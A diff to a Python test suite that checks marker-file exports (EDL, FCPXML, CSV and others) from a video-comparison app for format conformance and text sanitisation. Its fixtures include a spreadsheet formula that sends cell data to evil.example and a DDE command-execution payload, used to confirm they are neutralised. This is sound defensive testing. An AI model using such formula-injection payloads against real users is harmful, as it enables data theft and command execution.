@@ -1,8 +1,11 @@
 """The marker files checked against their formats, not only read back: the EDL as CMX 3600 the way
 DaVinci Resolve writes timeline markers (TITLE, FCM, event lines in their columns, timecode at the
-video's own rate, ASCII, short lines), the FCPXML against Apple's FCPXML 1.8 DTD (vendored, see
-tests/videos/fcpxml/README.md) and what Final Cut needs in it; both read back with OpenTimelineIO at
-the exact rate. Then people's text: spreadsheet formulas and bidi controls in every export.
+video's own rate, ASCII, lines of at most 80 characters ending CRLF, `* LOC:` locators), FCP7 XML as
+Premiere reads it (sequence rate, timecode, markers' in and out), the FCPXML against Apple's FCPXML
+1.8 DTD (vendored, see tests/videos/fcpxml/README.md) and what Final Cut needs in it, Avid's marker
+text in its six columns, OpenTimelineIO JSON, CSV with a byte order mark; each read back with
+OpenTimelineIO's adapter for it at the exact rate. Then people's text: spreadsheet formulas and bidi
+controls in every export.
 
 The comparison is the factory's refined row (B 23.4 s); its differences on B start at 0, 5.637, 11
 and 18.44 s."""
@@ -25,7 +28,7 @@ from lxml import etree
 from reviews.comments import comment_create_by_guest
 from sage.export_text import csv_table
 from tests.factories import ComparisonFactory, ShareLinkFactory, UploadFactory
-from videos.compare.markers import TimedMarker, comparison_markers_file, write_markers
+from videos.compare.markers import MARKER_FILE_TYPES, TimedMarker, comparison_markers_file, write_markers
 
 pytestmark = pytest.mark.django_db
 
@@ -42,6 +45,14 @@ RATES = [
 TIMECODE = r"\d\d:[0-5]\d:[0-5]\d[:;]\d\d"
 EVENT_LINE = re.compile(rf"^(\d{{3}})  (.{{8}}) (.{{5}}) C {{8}}({TIMECODE}) ({TIMECODE}) ({TIMECODE}) ({TIMECODE})$")
 RESOLVE_LINE = re.compile(r"^(.*) \|C:ResolveColor(\w+) \|M:(.*) \|D:(\d+)$")
+LOC_LINE = re.compile(rf"^\* LOC: ({TIMECODE}) (\w+) +(.*)$")
+# Final Cut's names for 1920x1080 at each rate it has presets for.
+FCP_FORMATS = {
+    Fraction(24000, 1001): "FFVideoFormat1080p2398",
+    Fraction(24): "FFVideoFormat1080p24",
+    Fraction(25): "FFVideoFormat1080p25",
+    Fraction(30000, 1001): "FFVideoFormat1080p2997",
+}
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -106,10 +117,14 @@ def test_the_edl_is_cmx_3600_with_each_marker_at_its_frame_at_the_videos_own_rat
 ) -> None:
     edl = comparison_markers_file(with_rate(comparison, fps), side="b", file_type="edl")
 
-    lines = edl.split("\n")
+    # CMX 3600: ASCII lines of at most 80 characters, ending CRLF as editors' tools write them.
+    assert edl.endswith("\r\n") and "\n" not in edl.replace("\r\n", "") and "\r" not in edl.replace("\r\n", "")
+    lines = edl.split("\r\n")
     assert lines[0] == f"TITLE: SAGE comparison {comparison.pk} - markers on B: Refined B"
     assert lines[1] == ("FCM: DROP FRAME" if drop_frame else "FCM: NON-DROP FRAME")
-    assert edl.isascii() and max(len(line) for line in lines) < 200
+    assert edl.isascii() and max(len(line) for line in lines) <= 80
+    # Every line but the header is an event, a comment (`* `), Resolve's marker line or blank.
+    assert all(EVENT_LINE.match(line) or line.startswith(("* ", " |C:")) or not line for line in lines[2:])
     events = [EVENT_LINE.match(line) for line in lines if line[:1].isdigit()]
     assert all(events) and len(events) == len(STARTS_ON_B)
     one_hour = frames_of("01:00:00:00", rate, drop_frame)
@@ -138,6 +153,22 @@ def test_the_edl_is_cmx_3600_with_each_marker_at_its_frame_at_the_videos_own_rat
         round(13 * rate) - round(11 * rate),
         round(20.94 * rate) - round(18.44 * rate),
     ]
+    # Then each marker's locator, at the event's own timecode, in one of Avid's colours.
+    locators = [LOC_LINE.match(lines[index + 2]) for index, line in enumerate(lines) if line[:1].isdigit()]
+    assert [(match.group(1), match.group(2), match.group(3)) for match in locators if match] == [
+        (event.group(6), colour, name)
+        for event, (colour, name) in zip(
+            events,
+            [
+                ("YELLOW", "1. Only in B"),
+                ("BLUE", "2. Picture differs (low)"),
+                ("YELLOW", "3. Only in B"),
+                ("MAGENTA", "4. Picture and sound differ (high)"),
+            ],
+            strict=True,
+        )
+        if event
+    ]
 
 
 @pytest.mark.parametrize(("fps", "rate", "drop_frame"), [row for row in RATES if row[0] != 15.0])
@@ -154,6 +185,22 @@ def test_the_edl_reads_back_in_opentimelineio_at_the_exact_rate(comparison, fps,
     ]
     assert all(clip.source_range.duration.value == 1 for clip in clips)
     assert "|M:2. Picture differs (low)" in clips[1].metadata["cmx_3600"]["comments"][0]
+    if drop_frame:
+        # OTIO's reader takes a locator's timecode as HH:MM:SS:FF only: it skips the drop-frame
+        # `HH:MM:SS;FF` ones (the events above carry the frames).
+        assert all(not clip.markers for clip in clips)
+        return
+    # Every marker, from its `* LOC:` line: its name, frame (the event's) and colour.
+    markers = [marker for clip in clips for marker in clip.markers]
+    assert [(marker.name, marker.color) for marker in markers] == [
+        ("1. Only in B", "YELLOW"),
+        ("2. Picture differs (low)", "BLUE"),
+        ("3. Only in B", "YELLOW"),
+        ("4. Picture and sound differ (high)", "MAGENTA"),
+    ]
+    assert [round(marker.marked_range.start_time.value - one_hour) for marker in markers] == [
+        round(seconds * rate) for seconds in STARTS_ON_B
+    ]
 
 
 def test_the_edl_starts_at_the_timecode_asked_for(comparison) -> None:
@@ -190,17 +237,18 @@ def test_the_page_offers_the_start_timecode_for_the_marker_files(comparison) -> 
 def test_an_edl_note_is_ascii_cut_short_and_not_repeated_in_the_name(commented) -> None:
     edl = comparison_markers_file(commented, side="b", file_type="edl", include=("comments",))
 
-    [line] = [line for line in edl.split("\n") if "|M:" in line]
+    [line] = [line for line in edl.split("\r\n") if "|M:" in line]
     match = RESOLVE_LINE.match(line)
     assert match
-    note, colour, name, _ = match.groups()
+    _, colour, name, _ = match.groups()
+    note = " ".join(line.removeprefix("* COMMENT: ") for line in edl.split("\r\n") if line.startswith("* COMMENT: "))
     assert note.startswith('The logo - is "too" big... on the cafe sign, please make it smaller')
     assert note.endswith("...") and len(note) <= 120
     assert (name, colour) == ("Comment: Zoe", "Sand")
     assert edl.isascii()
     # The whole text, once, in the files that hold it.
     csv_file = comparison_markers_file(commented, side="b", file_type="csv", include=("comments",))
-    [row] = csv.DictReader(io.StringIO(csv_file))
+    [row] = csv.DictReader(io.StringIO(csv_file.removeprefix("\ufeff")))
     assert row["name"] == "Comment: Zoë" and row["note"].startswith("The logo — is “too” big…")
     assert row["note"].endswith("the client will notice it at once")
 
@@ -219,9 +267,12 @@ def test_the_fcpxml_is_valid_fcpxml_1_8_for_the_uploaded_file_at_its_rate(compar
     frame = 1 / rate
     assert media_format.get("frameDuration") == f"{frame.numerator}/{frame.denominator}s"
     assert (media_format.get("width"), media_format.get("height")) == ("1920", "1080")
-    assert media_format.get("name", "").startswith("FFVideoFormat1080p")
+    # A name Final Cut has for the format, or none (a custom format) at a rate it has no preset for.
+    assert media_format.get("name") == (None if fps == 15.0 else FCP_FORMATS[rate])
     [asset] = document.iter("asset")
-    assert asset.get("src") == quote("Walk take 2 (final cut).mp4") == "Walk%20take%202%20%28final%20cut%29.mp4"
+    # A `file:` URL (the DTD's `src`), relative: the uploaded file's name, URL-encoded.
+    assert asset.get("src") == "file:./" + quote("Walk take 2 (final cut).mp4")
+    assert asset.get("src") == "file:./Walk%20take%202%20%28final%20cut%29.mp4"
     assert (asset.get("hasAudio"), asset.get("hasVideo")) == ("1", "1")
     [project] = document.iter("project")
     assert project.get("name") == f"SAGE comparison {comparison.pk} - markers on B: Refined B"
@@ -271,7 +322,7 @@ def test_a_guests_formula_reaches_the_owners_csv_files_as_text(comparison) -> No
         "'@SUM(1+1)*cmd|' /C calc'!A0",
     ]
     assert {row["author_name"] for row in rows} == {"'=Eve"}
-    notes = [row["note"] for row in csv.DictReader(io.StringIO(markers.content.decode()))]
+    notes = [row["note"] for row in csv.DictReader(io.StringIO(markers.content.decode("utf-8-sig")))]
     assert notes[0] == "'" + FORMULA
     assert all(note.startswith("'") for note in notes)
 
@@ -303,7 +354,7 @@ def test_bidi_controls_in_a_comment_reach_no_export(comparison) -> None:
     client = client_for(comparison.owner)
     report = client.get(reverse("api-comparison-export", kwargs={"comparison_id": comparison.pk, "file_type": "csv"}))
 
-    files = [comparison_markers_file(comparison, side="b", file_type=kind) for kind in ("edl", "fcpxml", "csv")]
+    files = [comparison_markers_file(comparison, side="b", file_type=kind) for kind in MARKER_FILE_TYPES]
 
     for text in [*files, report.content.decode()]:
         assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)
@@ -318,6 +369,6 @@ def test_markers_on_one_frame_each_keep_a_frame_of_their_own_in_the_edl(comparis
 
     edl = write_markers(video=comparison.video_b, side="b", name="B", markers=same_moment, file_type="edl")
 
-    record_ins = [match.group(6) for match in map(EVENT_LINE.match, edl.split("\n")) if match]
+    record_ins = [match.group(6) for match in map(EVENT_LINE.match, edl.split("\r\n")) if match]
     assert record_ins == ["01:00:02:00", "01:00:02:01", "01:00:02:02"]
-    assert " |C:ResolveColorBlue |M:y |D:1" in edl.split("\n")
+    assert " |C:ResolveColorBlue |M:y |D:1" in edl.split("\r\n")
